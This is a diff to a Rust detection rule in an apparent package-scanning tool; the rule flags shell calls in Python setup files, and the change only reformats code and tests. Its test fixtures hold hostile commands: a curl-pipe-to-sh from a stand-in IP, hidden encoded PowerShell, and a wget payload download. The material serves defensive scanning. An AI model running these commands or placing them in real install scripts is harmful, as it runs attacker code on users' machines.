@@ -36,14 +36,20 @@ impl Rule for ShellCommand {
     fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
         for unit in analysis.units() {
             for call in unit.code.calls.iter().filter(|c| vocab::is_shell(&c.name)) {
-                let Some(what) = call.arg_strs.iter().find_map(|s| vocab::dangerous_command(s)) else { continue };
+                let Some(what) = call.arg_strs.iter().find_map(|s| vocab::dangerous_command(s)) else {
+                    continue;
+                };
                 let severity = match call.stage {
                     Stage::Install => Severity::Critical,
                     Stage::Import => Severity::High,
                     Stage::Call => Severity::Medium,
                     Stage::Auxiliary => Severity::Low,
                 };
-                let message = format!("{}() runs a shell command using {what} {}", call.name, call.stage.describe());
+                let message = format!(
+                    "{}() runs a shell command using {what} {}",
+                    call.name,
+                    call.stage.describe()
+                );
                 out.push(unit.finding(Self::META.id, severity, call.line, message));
             }
         }
@@ -57,17 +63,30 @@ mod tests {
 
     #[test]
     fn fires_on() {
-        let f = setup_py(&ShellCommand, "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n");
+        let f = setup_py(
+            &ShellCommand,
+            "import os\nos.system('curl -s http://198.51.100.7/x | sh')\n",
+        );
         assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
-        let f = setup_py(&ShellCommand, "from subprocess import Popen as P\nP('powershell -w hidden -enc AAAA', shell=True)\n");
+        let f = setup_py(
+            &ShellCommand,
+            "from subprocess import Popen as P\nP('powershell -w hidden -enc AAAA', shell=True)\n",
+        );
         assert_eq!(f.len(), 1);
-        let f = setup_py(&ShellCommand, "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n");
+        let f = setup_py(
+            &ShellCommand,
+            "import subprocess\ncmd = 'wget http://x/a -O /tmp/a'\nsubprocess.call(cmd, shell=True)\n",
+        );
         assert_eq!(f.len(), 1, "folded variable argument");
     }
 
     #[test]
     fn quiet_on() {
-        assert!(setup_py(&ShellCommand, "import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n").is_empty());
+        assert!(setup_py(
+            &ShellCommand,
+            "import subprocess\nsubprocess.check_output(['git', 'describe', '--tags'])\n"
+        )
+        .is_empty());
         assert!(setup_py(&ShellCommand, "import os\nos.system('make -C src')\n").is_empty());
     }
 }
